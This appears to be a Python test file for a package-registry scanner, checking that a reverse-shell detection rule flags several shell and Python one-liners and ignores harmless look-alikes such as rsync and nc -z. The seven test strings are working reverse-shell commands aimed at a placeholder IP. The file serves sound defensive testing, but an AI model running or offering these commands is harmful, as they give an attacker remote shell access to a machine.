"""Indicators in one string: each rule named by its test, each beside a benign look-alike that stays below medium."""

from pypi_platform.lib.scanner.indicators import indicator_findings

_SEVERE = {"medium", "high", "critical"}


def _rules(text: str, line: int | None = 7) -> list[tuple[str, int | None]]:
    return sorted((finding.rule, finding.line) for finding in indicator_findings("pkg/x.py", text, line))


def _severe(text: str) -> set[str]:
    return {f.rule for f in indicator_findings("pkg/x.py", text, 1) if f.severity in _SEVERE}


def test_findings_sit_on_the_given_line_or_on_lines_within_the_string():
    text = "x\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
    assert _rules(text) == [("network.reverse-shell", 7)]
    assert _rules(text, None) == [("network.reverse-shell", 2)]


def test_network_reverse_shell():
    for command in (
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "nc -e /bin/sh 203.0.113.9 4444",
        "ncat 203.0.113.9 4444 -e /bin/bash",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
        "socat tcp-connect:203.0.113.9:4444 exec:/bin/sh,pty,stderr",
        "sh -i 2>&1 | nc 203.0.113.9 4444",
        "python -c 'import socket,os;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0)'",
    ):
        assert _severe(command) == {"network.reverse-shell"}, command


def test_network_reverse_shell_look_alikes_stay_below_medium():
    for text in (
        "rsync -e ssh src/ dest/",
        "os.dup2(devnull, 1)  # silence the child",
        "nc -z localhost 5432",
        "sh -c 'make install'",
    ):
        assert _severe(text) == set(), text
